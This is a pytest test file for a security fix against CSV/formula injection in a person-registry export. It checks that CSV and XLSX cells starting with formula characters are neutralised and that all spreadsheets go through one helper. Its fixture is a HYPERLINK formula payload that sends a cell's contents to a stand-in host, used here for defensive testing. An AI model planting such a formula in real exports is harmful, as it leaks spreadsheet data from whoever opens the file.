"""Finding 7: CSV/formula injection.

A person registered as ``=HYPERLINK("http://x"&C2,"y")`` came out of the registry export
as a live formula. Every CSV or XLSX the platform writes now passes through one helper,
core/exports.py: in CSV a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a leading apostrophe (OWASP), in XLSX it is a plain-text cell with
the quote prefix, never a formula.
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.exports import FORMULA_PREFIXES, csv_safe, csv_writer, safe_row
from core.registry import services as s
from core.registry.cli import cli_actor
from core.registry.importer import ImportReport, RowError, export_persons, write_report
from core.registry.testing import ensure_registry, make_id, make_places

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://x"&C2,"y")'
pytestmark = pytest.mark.with_plugins()


@pytest.mark.parametrize("first", FORMULA_PREFIXES)
def test_every_formula_prefix_is_neutralised(first):
    value = f"{first}1+1"
    assert csv_safe(value) == "'" + value
    out = io.StringIO()
    csv_writer(out).writerow([value, "王建国", 5, -5, None])
    (row,) = csv.reader(io.StringIO(out.getvalue()))
    assert row == ["'" + value, "王建国", "5", "-5", ""]  # numbers stay numbers
    assert safe_row(["ok", "@x"]) == ["ok", "'@x"]


def test_the_registry_export_writes_no_live_formula(app, db_session, tmp_path):
    kernel = ensure_registry(app)
    places = make_places(db_session)
    s.register_person(db_session, {"name": EVIL, "id_number": make_id(seq=41)},
                      bus=kernel.bus, dwelling_id=places.d1.id)
    s.register_person(db_session, {"name": "+王二", "id_number": make_id(seq=42),
                                   "hukou_place": "@河北省"}, bus=kernel.bus,
                      dwelling_id=places.d1.id)
    db_session.commit()
    for reveal in (False, True):
        target = tmp_path / f"persons-{reveal}.csv"
        export_persons(db_session, target, actor=cli_actor(), reveal=reveal,
                       purpose="核查" if reveal else "")
        rows = list(csv.reader(target.open(encoding="utf-8-sig")))
        cells = [c for row in rows[1:] for c in row]
        assert "'" + EVIL in cells and "'+王二" in cells
        assert not [c for c in cells if c.startswith(FORMULA_PREFIXES)], cells
        if reveal:
            assert "'@河北省" in cells
    db_session.commit()
    target = tmp_path / "persons.xlsx"
    export_persons(db_session, target, actor=cli_actor(), reveal=True, purpose="核查")
    db_session.commit()
    sheet = zipfile.ZipFile(target).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    ws = load_workbook(target).worksheets[0]
    names = {r[0].value: r[0] for r in ws.iter_rows(min_row=2)}
    cell = names[EVIL]  # the value itself is kept exactly, as text
    assert cell.data_type == "s" and cell.quotePrefix


def test_the_rejected_rows_report_writes_no_live_formula(tmp_path):
    report = ImportReport(source="x.csv", dry_run=False)
    report.rejected.append(RowError(2, "id_number", "bad", EVIL, "-1234"))
    write_report(report, tmp_path / "r.csv")
    rows = list(csv.reader((tmp_path / "r.csv").open(encoding="utf-8-sig")))
    assert rows[1][3] == "'" + EVIL and rows[1][4] == "'-1234"


def _sources() -> list[Path]:
    return [p for base in ("core", "plugins") for p in sorted((ROOT / base).rglob("*.py"))
            if "migrations" not in p.parts]


def test_spreadsheets_are_written_only_through_core_exports():
    """One helper for every export: no module but core/exports.py makes a ``csv.writer``
    or ``csv.DictWriter``, and a module that builds an openpyxl ``Workbook`` uses
    ``xlsx_row`` for its cells."""
    offenders = []
    for path in _sources():
        if path == ROOT / "core" / "exports.py":
            continue
        source = path.read_text(encoding="utf-8")
        tree = ast.parse(source)
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                    a.name in ("writer", "DictWriter") for a in node.names):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno} from csv import")
        if "Workbook(" in source and "xlsx_row" not in source:
            offenders.append(f"{path.relative_to(ROOT)}: Workbook without xlsx_row")
    assert not offenders, "write spreadsheets with core.exports (toolkit.csv_writer): " \
        + ", ".join(offenders)
